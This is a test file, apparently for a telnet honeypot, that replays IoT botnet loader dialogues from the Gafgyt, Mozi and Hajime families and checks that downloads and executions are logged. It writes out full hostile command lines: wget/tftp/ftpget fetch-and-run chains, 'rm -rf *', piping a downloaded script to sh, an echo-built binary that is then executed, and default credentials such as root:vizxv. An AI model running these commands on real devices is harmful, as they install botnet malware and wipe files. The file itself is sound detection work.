import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { after, before, describe, test } from 'node:test'
import { type Host, inertElf, type Loader, machineOf, octetLines, play, startHost } from './telnet-loader.ts'

const X86_64 = 62
const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex')

/** What was served by ourselves, and then run, is no sample. */
type Upload = { path: string; sample?: { sha256: string }; fate?: string }
type Download = { url: string; tool: string; commandLine: string }

/** Log-in as every family does it: whatever looks like a prompt is answered. */
async function logIn(loader: Loader, user: string, password: string): Promise<void> {
  await loader.expect(/ogin: ?$|[:>%$#] ?$/)
  loader.send(user)
  await loader.expect(/assword: ?$/)
  loader.send(password)
  await loader.expect(/[>%$#] ?$/)
}

describe('other families of loaders', () => {
  let host: Host
  before(async () => {
    host = await startHost({ access: { rules: ['root:vizxv', 'admin:admin'] } })
  })
  after(() => host.close())
  const seen = <T>(name: string) => host.events.filter(event => event.name === name).map(event => event.details as T)

  test('Gafgyt: a shell is known by its echo, then one line of folders, wget, curl, tftp and ftpget', async () => {
    await play(host, async loader => {
      await logIn(loader, 'root', 'vizxv')
      loader.send('sh')
      await loader.expect(/[>%$#] ?$/)
      loader.send('shell')
      await loader.expect('not found')
      await loader.expect(/[>%$#] ?$/)
      loader.send("/bin/busybox;/bin/busybox echo -e '\\147\\141\\171\\146\\147\\164'")
      await loader.expect('multi-call binary')
      await loader.expect('gayfgt\r\n')
      loader.send(
        'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.77/bins.sh; chmod 777 bins.sh; sh bins.sh; ' +
          'tftp 198.51.100.77 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 198.51.100.77; chmod 777 tftp2.sh; sh tftp2.sh; ' +
          'ftpget -v -u anonymous -p anonymous -P 21 198.51.100.77 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *; echo do""ne',
      )
      await loader.expect('\ndone\r\n')
      loader.send('exit')
    })
    const urls = seen<Download>('fileDownload').map(({ url }) => url)
    assert.ok(urls.includes('http://198.51.100.77/bins.sh'), urls.join(' '))
  })

  test('Mozi: reads the head of a program as best it can, then wget', async () => {
    await play(host, async loader => {
      await logIn(loader, 'admin', 'admin')
      for (const word of ['enable', 'system', 'shell', 'sh']) loader.send(word)
      assert.match(await loader.query('cat /proc/mounts', 'VHUIZ'), /ext4 rw/)
      const moved = await loader.query('cd /dev/shm; cat .s || cp /bin/echo .s', 'VHUIZ')
      assert.match(moved, /\.s: No such file or directory/)
      await loader.query('tftp; wget', 'VHUIZ')
      const head = await loader.query(
        'dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s',
        'VHUIZ',
      )
      assert.equal(machineOf(head), X86_64)
      loader.send('rm .s; wget http://203.0.113.201:41375/.i; chmod 777 .i; ./.i; exit')
      loader.send('exit')
    })
    const urls = seen<Download>('fileDownload').map(({ url }) => url)
    assert.ok(urls.includes('http://203.0.113.201:41375/.i'), urls.join(' '))
  })

  test('Hajime: a stub by echo, read back, given out by the stub', async () => {
    const stub = inertElf(X86_64, 64, 484)
    await play(host, async loader => {
      await logIn(loader, 'root', 'vizxv')
      for (const word of ['enable', 'system', 'shell', 'sh']) loader.send(word)
      await loader.query('', 'ZKWAM')
      assert.match(await loader.query('cat /proc/mounts', 'ZKWAM'), /tmpfs/)
      await loader.query('cd /var; cat .s || cp /bin/echo .s', 'ZKWAM')
      await loader.query('wget; tftp', 'ZKWAM')
      const head = await loader.query('dd bs=52 count=1 if=.s || cat .s', 'ZKWAM')
      assert.equal(machineOf(head), X86_64)
      await loader.query('rm .s; cp .nippon .s || cp /bin/echo .s; >.s', 'ZKWAM')
      for (const [at, octets] of octetLines(stub, 60).entries())
        await loader.query(`/bin/busybox echo -ne "${octets}" ${at === 0 ? '>' : '>>'} .s`, 'ZKWAM')
      const back = await loader.query('cat .s', 'ZKWAM')
      const at = back.indexOf('\x7fELF')
      // As a terminal shows it: a newline within comes with a carriage return (ONLCR).
      assert.ok(at >= 0 && back.slice(at).startsWith(stub.toString('latin1').replaceAll('\n', '\r\n')))
      await loader.query('./.s>.i; chmod +x .i; ./.i; rm .s', 'ZKWAM')
      loader.send('exit')
      loader.send('exit')
    })
    const run = seen<Upload>('execution').map(({ path, sample }) => `${path} ${sample?.sha256}`)
    assert.ok(run.includes(`/var/.s ${sha256(stub)}`), run.join(', '))
  })

  test('a dialogue in one packet, prompts or no prompts', async () => {
    await play(host, async loader => {
      loader.send(
        [
          'root',
          'vizxv',
          'enable',
          'system',
          'shell',
          'sh',
          '/bin/busybox BOTNET',
          'wget http://192.0.2.44/x.sh -O- | sh',
        ].join('\r\n'),
      )
      await loader.expect('BOTNET: applet not found')
      await loader.expect(/# ?$/)
    })
    assert.ok(seen<Download>('fileDownload').some(({ url }) => url === 'http://192.0.2.44/x.sh'))
  })
})
